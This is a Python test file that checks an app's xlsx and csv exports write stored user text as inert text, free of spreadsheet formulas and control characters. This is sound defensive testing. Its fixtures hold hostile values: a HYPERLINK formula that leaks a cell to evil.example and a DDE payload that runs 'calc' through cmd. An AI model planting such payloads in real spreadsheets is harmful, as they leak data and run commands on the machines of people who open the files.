"""Every xlsx and csv export writes stored user text as text: no formula a spreadsheet would run, no control
character that breaks the file (app/exports.py), whatever is already in the database."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.competence.models import CourseWish, Distribution, DistributionLine
from app.extensions import db
from app.people.models import Department, User

#: Stored as they would be by older code or an import: the forms refuse control characters today.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
HOSTILE = {
    "wish": FORMULA + "\x02",  # PostgreSQL cannot store NUL, so stored data never holds it
    "line": "+SUM(1;2)\x01",
    "department": "-2+3 Skov/bryn:et\x1b",
    "person": "@cmd|' /C calc'!A0\x0b",
}
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


@pytest.fixture
def stored(app, demo):
    """The demo home with hostile text in every kind of field the exports write."""
    with app.app_context():
        wish = db.session.scalars(select(CourseWish).where(CourseWish.status == "submitted")
                                  .order_by(CourseWish.id)).first()
        for each in db.session.scalars(select(CourseWish)):
            each.title = HOSTILE["wish"]
        for line in db.session.scalars(select(DistributionLine)):
            line.title = HOSTILE["line"]
        department = db.session.get(Department, wish.department_id)
        department.name = HOSTILE["department"]
        db.session.scalar(select(User).where(User.email == demo["employee"])).name = HOSTILE["person"]
        dist = db.session.scalars(select(Distribution).order_by(Distribution.id)).first()
        db.session.commit()
        return {"year": wish.year, "department": department.id, "distribution": dist.id}


def _xlsx_cells(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [c.value for sheet in book for r in sheet.iter_rows() for c in r if isinstance(c.value, str)] + [
        sheet.title for sheet in book]


def _csv_cells(data: bytes, delimiter: str) -> list[str]:
    return [c for r in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for c in r]


def _assert_text_only(cells: list[str], *expected: str) -> None:
    for value in cells:
        assert not FORMULA_START.match(value), value
        assert not CONTROL.search(value), repr(value)
    for text in expected:
        assert "'" + CONTROL.sub("", text) in cells, text


def _exports(ids):
    year, dep, dist = ids["year"], ids["department"], ids["distribution"]
    return [
        (f"/competence/overview/{dep}/export", f"?aar={year}", ("wish", "department")),
        ("/competence/wishes/export", f"?aar={year}", ("wish", "department")),
        (f"/competence/distribution/{dist}/export", "", ("line",)),
    ]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_competence_exports_write_stored_text_as_text(app, stored, auth, client, fmt):
    auth.login("head")
    for path, query, kinds in _exports(stored):
        response = client.get(f"{path}.{fmt}{query}")
        assert response.status_code == 200, path
        cells = _xlsx_cells(response.data) if fmt == "xlsx" else _csv_cells(response.data, ";")
        _assert_text_only(cells, *(HOSTILE[k] for k in kinds))


def test_formula_cells_are_text_in_the_workbook(app, stored, auth, client):
    auth.login("head")
    response = client.get(f"/competence/wishes/export.xlsx?aar={stored['year']}")
    book = load_workbook(io.BytesIO(response.data))
    types = {c.data_type for r in book.active.iter_rows(min_row=2) for c in r if c.value == "'" + FORMULA}
    assert types == {"s"}


def test_talk_status_export_writes_stored_text_as_text(app, stored, auth, client):
    auth.login("head")
    response = client.get("/appraisals/export.xlsx")
    assert response.status_code == 200
    _assert_text_only(_xlsx_cells(response.data), HOSTILE["person"])


def test_quality_api_csv_writes_stored_text_as_text(app, stored, auth, client):
    auth.login("head")
    page = client.post("/quality/tokens", data={"label": "BI"}).get_data(as_text=True)
    key = re.search(r'<code class="api-key">([^<]+)</code>', page).group(1)
    response = client.get(f"/quality/api/current.csv?department={stored['department']}",
                          headers={"Authorization": f"Bearer {key}"})
    assert response.status_code == 200
    _assert_text_only(_csv_cells(response.data, ","), HOSTILE["department"])
